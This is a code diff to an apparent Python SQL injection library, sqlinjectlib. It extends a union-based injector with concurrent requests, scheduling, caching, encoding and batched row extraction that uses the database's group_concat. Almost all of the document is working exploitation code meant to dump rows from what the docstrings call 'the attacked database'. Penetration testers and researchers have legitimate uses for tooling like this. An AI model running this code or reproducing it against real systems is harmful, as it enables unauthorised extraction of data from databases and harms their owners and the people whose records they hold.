@@ -1,10 +1,16 @@
 from __future__ import annotations
+from concurrent.futures import Executor
+from sqlinjectlib._metrics import Hook, phase
 from typing import Any
 from sqlinjectlib._sqlinjectlib import SQLInjector, InjectorFunction
 from sqlinjectlib._databases import DatabaseType, MySQL
+from sqlinjectlib._cache import Cache
+from sqlinjectlib._encodings import Encoding
+from sqlinjectlib._packing import pack, unpack
+from sqlinjectlib._scheduler import MAX_IN_FLIGHT, Scheduler, limit, priority
 from sqlinjectlib._typedql import SimpleQuery, SQL
-from collections.abc import AsyncGenerator
-from sqlinjectlib._utils import wrap
+from collections.abc import AsyncGenerator, Sequence
+from sqlinjectlib._utils import RECENT, wrap, single_flight, await_all
 
 
 class UnionInjector(SQLInjector):
@@ -18,26 +24,163 @@ class UnionInjector(SQLInjector):
         injector: InjectorFunction[SQL[str], str | None],
         /,
         *,
+        concurrent: bool = False,
         database_type: DatabaseType = MySQL(),
+        scheduler: Scheduler | None = None,
+        max_in_flight: int | None = MAX_IN_FLIGHT,
+        executor: Executor | None = None,
+        hooks: Sequence[Hook] = (),
+        cache: Cache | None = None,
+        pack: bool = False,
+        separated: bool = False,
+        batch: int | None = None,
+        encoding: Encoding | None = None,
     ):
         """
         - injector: function that given a string SQL expression, returns the result
+        - concurrent: if the function can be called multiple times concurrently to speed up
         - database_type: the type of the database you are injecting into
+        - scheduler: the scheduler that limits the requests sent with the injector, it can be shared
+        - max_in_flight: the most requests sent at the same time if concurrent and no scheduler is given,
+            None for no limit
+        - executor: the executor that runs the injector if it is not a coroutine function,
+            so that blocking injectors can run concurrently, None to run it in the event loop
+        - hooks: the functions called with the event of every call of the injector, like Metrics or Trace
+        - cache: the cache that keeps the results between sessions,
+            with it the recent results are also kept in memory
+        - pack: if all the columns of a row are read as a single value instead of a column at a time
+        - separated: if the packed columns are separated by a single character instead of prefixed by their length,
+            shorter but a truncated value is not detected
+        - batch: the maximum number of rows read with a single request by joining them with the aggregate
+            concatenation of the database, it is reduced if the result is truncated,
+            None to read a row per request
+        - encoding: the encoding used to transport the values, None to extract them as text
+        - raises ValueError: if the batch is not positive
         """
-        self.__injector = wrap(injector)
-        super().__init__(self.__call, database_type=database_type)
+        if batch is not None and batch < 1:
+            raise ValueError(f"The batch must be positive, found '{batch}'")
+        self.__batch = batch
+        self.__encoding = encoding
+        self.__concurrent = concurrent
+        self.__injector = wrap(
+            injector,
+            limit(scheduler, concurrent, max_in_flight),
+            executor,
+            hooks,
+            "value",
+        )
+        if cache is not None:
+            self.__injector = cache.wrap(self.__injector, "value")
+        self.__injector = single_flight(
+            self.__injector, RECENT if cache is not None else 0
+        )
+        super().__init__(
+            self.__call,
+            concurrent=concurrent,
+            database_type=database_type,
+            max_in_flight=None,
+            cache=cache,
+            pack=pack,
+            separated=separated,
+        )
 
     async def __find_string(self, query: SQL[Any]) -> str | None:
-        return await self.__injector(SQL.str(query))
+        if self.__encoding is None:
+            return await self.__injector(SQL.str(query))
+        return self.__decode(
+            await self.__injector(
+                self.__encoding.encode(self.database_type, SQL.str(query))
+            )
+        )
+
+    def __decode(self, value: str | None) -> str | None:
+        if self.__encoding is None or value is None:
+            return value
+        return self.__encoding.text(value)
 
     async def __call(self, query: SimpleQuery) -> list[str | None]:
-        length_result = await self.__find_string(SQL.count(query))
-        if length_result is None:
-            raise ValueError(f"Error getting number of rows, found null, '{query}'")
-        length = int(length_result)
-        return [await self.__find_string(SQL.subquery(query, i)) for i in range(length)]
+        length = await self.count(query)
+        if self.__batch is None:
+            return await await_all(
+                [self.value(query, i) for i in range(length)], self.__concurrent
+            )
+        chunks = await await_all(
+            [
+                self.__chunk(query, offset, min(self.__batch, length - offset))
+                for offset in range(0, length, self.__batch)
+            ],
+            self.__concurrent,
+        )
+        return [value for chunk in chunks for value in chunk]
+
+    async def __chunk(
+        self, query: SimpleQuery, offset: int, length: int
+    ) -> list[str | None]:
+        result: list[str | None] = []
+        while len(result) < length:
+            start = offset + len(result)
+            size = min(self.__batch or 1, length - len(result))
+            if size == 1:
+                result.append(await self.value(query, start))
+                continue
+            with priority(start), phase("row"):
+                text = await self.__injector(
+                    batch_query(self.database_type, query, start, size, self.__encoding)
+                )
+            values = unpack(text or "")
+            if len(values) < size:
+                self.__batch = max(1, len(values))
+            result.extend(self.__decode(value) for value in values[:size])
+        return result
+
+    async def count(self, query: SimpleQuery, /) -> int:
+        with phase("count"):
+            return await self.integer(SQL.count(query))
+
+    async def integer(self, query: SQL[int], /) -> int:
+        """Get the value of an integer expression in the attacked database
+
+        - query: the expression to use
+        - returns: the value of the expression
+        - raises ValueError: if the value is null
+        """
+        result = await self.__find_string(query)
+        if result is None:
+            raise ValueError(f"Error getting an integer, found null, '{query}'")
+        return int(result)
+
+    async def value(self, query: SimpleQuery, offset: int, /) -> str | None:
+        with priority(offset), phase("row"):
+            return await self.__find_string(SQL.subquery(query, offset))
 
     async def test(self) -> AsyncGenerator[tuple[str, bool], None]:
         yield ("value", await self.__find_string(SQL.int(1)) == "1")
         async for elem in super().test():
             yield elem
+
+
+def batch_query(
+    database: DatabaseType,
+    query: SimpleQuery,
+    offset: int,
+    size: int,
+    encoding: Encoding | None = None,
+) -> SQL[str]:
+    """Creates a query that returns some rows of a query joined in a single string
+
+    - database: the type of the database
+    - query: the query to read
+    - offset: the index of the first row
+    - size: the number of rows
+    - encoding: the encoding of each row, applied before packing so that a truncated result
+        still contains whole encoded rows, None to pack the rows as text
+    - returns: a query that returns the rows packed, to be split with unpack
+    """
+    rows = SimpleQuery(SQL(f"{query.select} as item"), query.table, query.where)
+    item: SQL[str] = SQL.str(SQL.column("item"))
+    if encoding is not None:
+        item = encoding.encode(database, item)
+    packed = database.group_concat(pack(database, [item]))
+    return SQL(
+        f"(select {packed} from ({rows} limit {size} offset {offset}) as result)"
+    )